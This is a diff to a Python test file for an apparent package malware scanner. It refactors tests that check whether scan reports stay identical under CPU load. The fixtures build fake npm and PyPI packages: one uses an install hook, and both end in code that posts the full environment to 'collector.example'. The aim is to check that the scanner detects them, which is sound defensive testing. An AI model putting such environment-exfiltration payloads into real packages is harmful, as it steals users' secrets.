@@ -61,27 +61,27 @@ def _json_without_timings(results: Sequence[TargetResult]) -> str:
 
 
 def _big_npm_package(root: Path) -> Path:
-    """A ~3.5 MB one-line minified bundle run at install, with its payload at the very end."""
+    """A ~2.5 MB one-line minified bundle run at install, with its payload at the very end."""
     pkg = root / "bundle-pkg"
     (pkg / "dist").mkdir(parents=True)
     (pkg / "package.json").write_text(
         '{"name": "bundle-pkg", "version": "1.0.0", "scripts": {"postinstall": "node dist/bundle.min.js"}}')
     chunk = "function a{i}(b,c){{return b.x{i}(c)+'s{i}'+require('m{i}')}}var v{i}=a{i}(1,[2,3,{{k:4}}]);"
-    body = "".join(chunk.format(i=i) for i in range(38_000))
+    body = "".join(chunk.format(i=i) for i in range(28_000))
     payload = ";require('https').request({host:'collector.example',method:'POST'}).end(JSON.stringify(process.env));"
     (pkg / "dist" / "bundle.min.js").write_text(body + payload)
-    assert (pkg / "dist" / "bundle.min.js").stat().st_size > 3_000_000
+    assert (pkg / "dist" / "bundle.min.js").stat().st_size > 2_500_000
     return pkg
 
 
 def _big_pypi_package(root: Path) -> Path:
-    """A package whose ~2.6 MB generated module posts the environment out in its last lines."""
+    """A package whose ~2 MB generated module posts the environment out in its last lines."""
     pkg = root / "genpkg"
     (pkg / "genpkg").mkdir(parents=True)
     (pkg / "setup.py").write_text("from setuptools import setup\nsetup(name='genpkg', version='1.0',"
                                   " packages=['genpkg'])\n")
     (pkg / "genpkg" / "__init__.py").write_text("from genpkg import generated\n")
-    body = "".join(f"a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n" for i in range(57_000))
+    body = "".join(f"a{i} = b(c, 'd' + e[1:2], lambda f: f.g(h))\n" for i in range(44_000))
     tail = "import os\nimport requests\nrequests.post('https://collector.example/x', json=dict(os.environ))\n"
     (pkg / "genpkg" / "generated.py").write_text(body + tail)
     return pkg
@@ -121,29 +121,42 @@ def _small_packages(root: Path, count: int) -> list[Path]:
     return out
 
 
-def test_json_report_is_byte_identical_idle_and_with_every_core_busy(tmp_path: Path) -> None:
-    targets = [str(p) for p in sorted(EXAMPLES.iterdir()) if p.is_dir()]
-    targets += [str(_big_npm_package(tmp_path)), str(_big_pypi_package(tmp_path))]
+def _same_idle_and_busy(targets: list[str]) -> list[TargetResult]:
+    """Scan `targets` on the machine as it is, then with every core busy; the JSON reports must
+    match byte for byte once the timings are dropped. Returns the first run's results."""
     options = ScanOptions()
     idle = scan(targets, options)
     with _saturated():
         loaded = scan(targets, options)
     assert all(r.ok and r.score is not None for r in idle), [r.error for r in idle]
-    idle_json, loaded_json = _json_without_timings(idle), _json_without_timings(loaded)
+    idle_json = _json_without_timings(idle)
     assert '"seconds"' not in idle_json
     json.loads(idle_json)  # still a valid report once the timings are gone
     for a, b in zip(idle, loaded, strict=True):
         assert _json_without_timings([a]) == _json_without_timings([b]), a.target
-    assert idle_json == loaded_json
-    # The big files are cut by their counted budgets, yet their payloads at the end are found.
-    bundle, generated = idle[-2], idle[-1]
-    assert bundle.analysis is not None and generated.analysis is not None
+    assert idle_json == _json_without_timings(loaded)
+    return idle
+
+
+def test_examples_json_is_byte_identical_idle_and_with_every_core_busy() -> None:
+    targets = [str(p) for p in sorted(EXAMPLES.iterdir()) if p.is_dir()]
+    assert len(targets) >= 3
+    _same_idle_and_busy(targets)
+
+
+def test_multi_megabyte_bundle_json_is_byte_identical_idle_and_with_every_core_busy(tmp_path: Path) -> None:
+    (bundle,) = _same_idle_and_busy([str(_big_npm_package(tmp_path))])
+    # Cut by its counted budgets, yet the payload at the very end is found.
+    assert bundle.analysis is not None
     assert any(f.budget_exhausted for f in bundle.analysis.files)
+    assert {"read_env", "network_request"} <= {e.behaviour for e in bundle.analysis.all_events()}
+
+
+def test_big_generated_python_json_is_byte_identical_idle_and_with_every_core_busy(tmp_path: Path) -> None:
+    (generated,) = _same_idle_and_busy([str(_big_pypi_package(tmp_path))])
+    assert generated.analysis is not None
     assert any(f.budget_exhausted for f in generated.analysis.files)
-    bundle_found = {e.behaviour for e in bundle.analysis.all_events()}
-    generated_found = {e.behaviour for e in generated.analysis.all_events()}
-    assert {"read_env", "network_request"} <= bundle_found
-    assert {"read_env", "upload_data"} <= generated_found
+    assert {"read_env", "upload_data"} <= {e.behaviour for e in generated.analysis.all_events()}
 
 
 def test_score_is_the_same_alone_and_in_a_batch_of_fifty(tmp_path: Path) -> None:
